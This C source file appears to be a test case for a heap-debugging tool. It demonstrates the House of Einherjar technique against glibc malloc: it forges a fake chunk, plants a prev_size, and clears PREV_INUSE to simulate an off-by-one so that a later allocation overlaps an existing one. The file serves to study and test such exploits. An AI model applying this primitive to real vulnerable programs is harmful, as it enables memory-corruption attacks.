/* expect: exit 0
 * House of Einherjar: an off-by-one clears the PREV_INUSE bit of the chunk after `a` and plants a
 * prev_size that reaches back to a fake free chunk inside `a`.  Freeing that chunk consolidates
 * backward into the fake chunk and then into top, so the next malloc overlaps `a`. */
#include "attack.h"

/* What the staged free() is about to free, for `heap check --free pending_free`. */
void *volatile pending_free;

int main(void)
{
	attack_begin();
	size_t *a = malloc(0x38);
	char *b = malloc(0x4f8);
	show("a", a);
	show("b", b);
	a[0] = 0;
	a[1] = 0x30;      /* fake chunk at a: size reaches b's header */
	a[2] = (size_t)a; /* fd = bk = itself: unlink's checks hold */
	a[3] = (size_t)a;
	a[6] = 0x30;                     /* b's prev_size (the last word of a's usable space) */
	chunk_words(b)[1] &= ~(size_t)1; /* the off-by-one null byte */
	pending_free = b;
	attack_staged("free(b) consolidates into the fake chunk");
	free(b);
	show("malloc(0x100)", malloc(0x100));
	return 0;
}
